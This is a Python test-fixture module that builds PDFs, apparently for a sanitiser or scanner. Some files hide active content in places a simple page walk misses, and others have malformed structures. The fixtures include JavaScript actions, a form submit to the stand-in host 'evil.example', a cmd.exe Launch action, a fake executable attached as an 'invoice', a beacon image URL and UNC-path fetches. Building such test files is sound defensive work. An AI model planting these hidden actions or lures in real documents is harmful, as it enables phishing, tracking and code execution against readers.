"""PDFs built to hide active content where a catalogue-and-pages walk does not look, and valid
PDFs with structures a strict reader refuses; each built in memory (pikepdf, or raw bytes for
what pikepdf itself would not write)."""

from __future__ import annotations

import io
import itertools

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.support import documents as fx

EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode"


def _js(doc: pikepdf.Pdf, code: str = "app.alert('x')") -> Dictionary:
    return doc.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _filespec(doc: pikepdf.Pdf, name: str = "hoa-don.exe") -> Dictionary:
    stream = pikepdf.Stream(doc, EXE)
    stream.Type = Name.EmbeddedFile
    return doc.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
    )


def _with(obj: pikepdf.Stream, **entries: object) -> None:
    for key, value in entries.items():
        obj[Name("/" + key)] = value


def _saved(doc: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def widget_parent_actions() -> bytes:
    """Form field actions reached only through a widget's /Parent, and a widget whose /P is a
    page outside the page tree (SF424-like): no /AcroForm lists the field."""
    with pikepdf.open(io.BytesIO(fx.pdf())) as doc:
        stray_page = doc.make_indirect(
            Dictionary(Type=Name.Page, MediaBox=[0, 0, 10, 10], AA=Dictionary(O=_js(doc)))
        )
        field = doc.make_indirect(
            Dictionary(
                FT=Name.Tx,
                T=String("ho_ten"),
                AA=Dictionary(K=_js(doc, "this.submitForm('http://evil.example')")),
                A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("x"))),
            )
        )
        widget = doc.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, Rect=[50, 50, 200, 70],
                Parent=field, P=stray_page,
            )
        )  # fmt: skip
        field.Kids = Array([widget])
        doc.pages[0].obj.Annots = Array([widget])
        return _saved(doc)


def popup_keeps_attachment() -> bytes:
    """A Popup on the page whose /Parent is a file attachment annotation (PyMuPDF 1.pdf-like)."""
    with pikepdf.open(io.BytesIO(fx.pdf())) as doc:
        attachment = doc.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[10, 10, 30, 30],
                FS=_filespec(doc),
            )
        )  # fmt: skip
        popup = doc.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Popup, Rect=[30, 30, 90, 90], Parent=attachment
            )
        )
        attachment.Popup = popup
        doc.pages[0].obj.Annots = Array([attachment, popup])
        return _saved(doc)


def associated_files_on_structure() -> bytes:
    """PDF 2.0 associated files (/AF) on a structure element under /StructTreeRoot."""
    with pikepdf.open(io.BytesIO(fx.pdf())) as doc:
        element = doc.make_indirect(
            Dictionary(Type=Name.StructElem, S=Name.Formula, AF=Array([_filespec(doc, "f.tex")]))
        )
        doc.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([element]))
        element.P = doc.Root.StructTreeRoot
        doc.Root.MarkInfo = Dictionary(Marked=True)
        return _saved(doc)


def external_image_streams() -> bytes:
    """Image streams whose data is at a URL and on a UNC path (fetched by viewers on render),
    a reference XObject importing a page of another file, and links to local paths."""
    with pikepdf.open(io.BytesIO(fx.pdf())) as doc:
        page = doc.pages[0]
        url = pikepdf.Stream(doc, b"")
        _with(
            url,
            Type=Name.XObject, Subtype=Name.Image, Width=10, Height=10, ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
            F=Dictionary(FS=Name.URL, F=String("http://beacon.example/open.png")),
        )  # fmt: skip
        unc = pikepdf.Stream(doc, b"")
        _with(
            unc,
            Type=Name.XObject, Subtype=Name.Image, Width=10, Height=10, ColorSpace=Name.DeviceGray,
            BitsPerComponent=8, F=String("\\\\fileserver\\share\\logo.jpg"),
        )  # fmt: skip
        form = pikepdf.Stream(doc, b"")
        _with(
            form,
            Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10],
            Ref=Dictionary(F=String("\\\\fileserver\\share\\other.pdf"), Page=0),
        )  # fmt: skip
        resources = page.obj.Resources
        resources.XObject = Dictionary(Im9=url, Im8=unc, Fm9=form)
        link = Dictionary(S=Name.URI, URI=String("file://///fileserver/share/x.doc"))
        web = Dictionary(S=Name.URI, URI=String("https://tinhuy.laocai.gov.vn/"))
        page.obj.Annots = Array(
            [
                doc.make_indirect(
                    Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
                )
                for action in (link, web)
            ]
        )
        return _saved(doc)


def many_bookmarks(count: int = 1200) -> bytes:
    """An outline of ``count`` sibling bookmarks (one per article of a legal compilation), each
    with a script action, chained by /Next."""
    with pikepdf.open(io.BytesIO(fx.pdf())) as doc:
        outlines = doc.make_indirect(Dictionary(Type=Name.Outlines))
        items = [
            doc.make_indirect(
                Dictionary(Title=String(f"Điều {n}"), Parent=outlines, A=_js(doc, f"n={n}"))
            )
            for n in range(1, count + 1)
        ]
        for before, after in itertools.pairwise(items):
            before.Next, after.Prev = after, before
        outlines.First, outlines.Last, outlines.Count = items[0], items[-1], count
        doc.Root.Outlines = outlines
        return _saved(doc)


def bad_image_size() -> bytes:
    """An image XObject with ``/Width /Height``: a name where a number belongs (issue4575)."""
    with pikepdf.open(io.BytesIO(fx.pdf())) as doc:
        image = pikepdf.Stream(doc, b"\x00" * 16)
        _with(
            image,
            Type=Name.XObject, Subtype=Name.Image, Width=Name.Height, Height=4,
            ColorSpace=Name.DeviceGray, BitsPerComponent=8,
        )  # fmt: skip
        doc.pages[0].obj.Resources.XObject = Dictionary(ImBad=image)
        return _saved(doc)


# --- raw PDFs: structures pikepdf would not write -----------------------------------------------

_TEXT = b"BT /F1 24 Tf 72 700 Td (Nghi quyet ve cong tac can bo) Tj ET"


def raw_pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A classic PDF with a cross-reference table, objects given by number."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            (b"%010d 00000 n \n" % offsets[number])
            if number in offsets
            else (b"0000000000 65535 f \n")
        )
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def _page_objects(pages_node: bytes) -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages_node,
        3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        4: _stream(_TEXT),
        5: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def page_tree_loop() -> bytes:
    """The root's kids hold a node whose kids hold the root again (test_3725-like); inherited
    resources and media box sit on the root node."""
    return raw_pdf(
        _page_objects(
            b"<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 6 0 R >> >> >>"
        )
    )


def non_utf8_key() -> bytes:
    """A dictionary key that is not UTF-8 (qpdf weird-tokens), beside a script action."""
    objects = _page_objects(
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 6 0 R >> >> >>"
    )
    del objects[5]
    objects[1] = (
        b"<< /Type /Catalog /Pages 2 0 R /Odd << /K\xff\xfe#20x 1 /A 7 0 R >> /OpenAction 7 0 R >>"
    )
    objects[7] = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return raw_pdf(objects)


def attachment_encrypted() -> bytes:
    """Only the embedded file is encrypted (crypt filter /EFF, /StmF and /StrF /Identity):
    viewers open the pages without a password. O and U come from a pikepdf-encrypted file
    with the same /ID, so the user password "secret" is really required for attachments."""
    source = io.BytesIO()
    with pikepdf.new() as blank:
        blank.add_blank_page()
        blank.save(source, encryption=pikepdf.Encryption(user="secret", owner="own", R=4))
    with pikepdf.open(io.BytesIO(source.getvalue()), password="secret") as locked:
        enc = locked.trailer.Encrypt
        o, u, p = bytes(enc.O), bytes(enc.U), int(enc.P)
        file_id = bytes(locked.trailer.ID[0])
    objects = _page_objects(
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 6 0 R >> >> >>"
    )
    del objects[5]
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 8 0 R >> >>"
    objects[7] = (
        b"<< /Filter /Standard /V 4 /R 4 /Length 128 /P %d /O <%s> /U <%s> "
        b"/CF << /StdCF << /CFM /AESV2 /AuthEvent /EFOpen /Length 16 >> >> "
        b"/StmF /Identity /StrF /Identity /EFF /StdCF >>" % (p, o.hex().encode(), u.hex().encode())
    )
    objects[8] = b"<< /Names [(a.txt) 9 0 R] >>"
    objects[9] = b"<< /Type /Filespec /F (a.txt) /EF << /F 10 0 R >> >>"
    objects[10] = _stream(bytes(range(32)), b"/Type /EmbeddedFile")
    ident = file_id.hex().encode()
    return raw_pdf(objects, b"/Root 1 0 R /Encrypt 7 0 R /ID [<%s> <%s>]" % (ident, ident))
